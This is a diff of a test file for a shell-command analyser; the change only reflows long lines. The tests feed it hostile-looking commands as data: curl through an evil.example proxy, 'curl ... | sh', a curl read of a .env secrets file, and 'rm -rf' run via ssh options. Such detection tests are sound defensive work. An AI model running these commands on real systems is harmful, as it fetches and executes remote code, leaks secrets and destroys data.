@@ -26,9 +26,19 @@ describe('a web address', () => {
   });
 
   it('is not known where an unknown part stands in the host', () => {
-    const open = { text: 'https://*.example/x', known: false, pattern: 'https://*.example/x', taint: {} };
+    const open = {
+      text: 'https://*.example/x',
+      known: false,
+      pattern: 'https://*.example/x',
+      taint: {},
+    };
     expect(webAddress(open).host?.known).toBe(false);
-    const later = { text: 'https://a.example/*', known: false, pattern: 'https://a.example/*', taint: {} };
+    const later = {
+      text: 'https://a.example/*',
+      known: false,
+      pattern: 'https://a.example/*',
+      taint: {},
+    };
     expect(webAddress(later).host?.known).toBe(true);
   });
 });
@@ -107,8 +117,12 @@ describe('a request', () => {
   });
 
   it('goes where a proxy or a mapping sends it', () => {
-    expect(fetches('curl -x evil.example:80 http://localhost/').join()).toContain('host=evil.example');
-    expect(fetches('curl --connect-to ::evil.example:80 http://localhost/').join()).toContain('host=evil.example');
+    expect(fetches('curl -x evil.example:80 http://localhost/').join()).toContain(
+      'host=evil.example',
+    );
+    expect(fetches('curl --connect-to ::evil.example:80 http://localhost/').join()).toContain(
+      'host=evil.example',
+    );
     expect(fetches('curl --resolve a:80:6.6.6.6 http://a/').join()).toContain('host=6.6.6.6');
   });
 
@@ -157,12 +171,16 @@ describe('a download', () => {
 
   it('leaves nothing on standard output', () => {
     expect(lines('curl -so a.json https://e.example | sh')).not.toContain('unknown: remote-code');
-    expect(lines('curl -so x -w "%{http_code}" https://e.example | sh')).not.toContain('unknown: remote-code');
+    expect(lines('curl -so x -w "%{http_code}" https://e.example | sh')).not.toContain(
+      'unknown: remote-code',
+    );
   });
 
   it('of a file: URL is a read', () => {
     expect(lines('curl file:///home/u/.env')).toContain('file.read file_path=/home/u/.env');
-    expect(lines('curl file:///home/u/.env').some((each) => each.startsWith('web.fetch'))).toBe(false);
+    expect(lines('curl file:///home/u/.env').some((each) => each.startsWith('web.fetch'))).toBe(
+      false,
+    );
   });
 });
 
@@ -190,7 +208,9 @@ describe('ssh', () => {
     'ssh -J j h sh -c "\'rm -rf /x\'"',
     'sshpass -p x ssh h rm -rf /x',
   ])('runs the line elsewhere: %s', (line) => {
-    const deletes = analyse(line, SURROUNDINGS).actions.filter(({ name }) => name === 'file.delete');
+    const deletes = analyse(line, SURROUNDINGS).actions.filter(
+      ({ name }) => name === 'file.delete',
+    );
     expect(deletes[0]).toMatchObject({ elsewhere: true, params: { file_path: '/x' } });
   });
 
@@ -199,14 +219,18 @@ describe('ssh', () => {
     'ssh -oProxyCommand="rm -rf /x" h',
     'ssh h -o LocalCommand="rm -rf /x"',
   ])('runs commands of its settings here: %s', (line) => {
-    const deletes = analyse(line, SURROUNDINGS).actions.filter(({ name }) => name === 'file.delete');
+    const deletes = analyse(line, SURROUNDINGS).actions.filter(
+      ({ name }) => name === 'file.delete',
+    );
     expect(deletes[0]?.elsewhere).toBeUndefined();
     expect(deletes[0]?.params['file_path']).toBe('/x');
   });
 
   it('opens ports', () => {
     expect(lines('ssh -N -L 8080:db:5432 h')).toContain('net.listen host=localhost port=8080');
-    expect(lines('ssh -NR 0.0.0.0:80:localhost:3000 h')).toContain('net.listen host=0.0.0.0 port=80');
+    expect(lines('ssh -NR 0.0.0.0:80:localhost:3000 h')).toContain(
+      'net.listen host=0.0.0.0 port=80',
+    );
   });
 
   it('does nothing for a question', () => {
@@ -215,16 +239,23 @@ describe('ssh', () => {
 });
 
 describe('the network is left alone', () => {
-  it.each(['curl --version', 'curl --help all', 'wget --help', 'nc -h', 'ping -c 1 e.example', 'dig e.example', 'ngrok config check'])(
-    '%s',
-    (line) => {
-      expect(lines(line)).toEqual([]);
-    },
-  );
+  it.each([
+    'curl --version',
+    'curl --help all',
+    'wget --help',
+    'nc -h',
+    'ping -c 1 e.example',
+    'dig e.example',
+    'ngrok config check',
+  ])('%s', (line) => {
+    expect(lines(line)).toEqual([]);
+  });
 
   it('is opened by a tunnel', () => {
     expect(lines('ngrok http 8080')).toContain('net.listen host=0.0.0.0 port=8080');
-    expect(lines('cloudflared tunnel --url http://localhost:3000')).toContain('net.listen host=0.0.0.0 port=3000');
+    expect(lines('cloudflared tunnel --url http://localhost:3000')).toContain(
+      'net.listen host=0.0.0.0 port=3000',
+    );
   });
 });
 
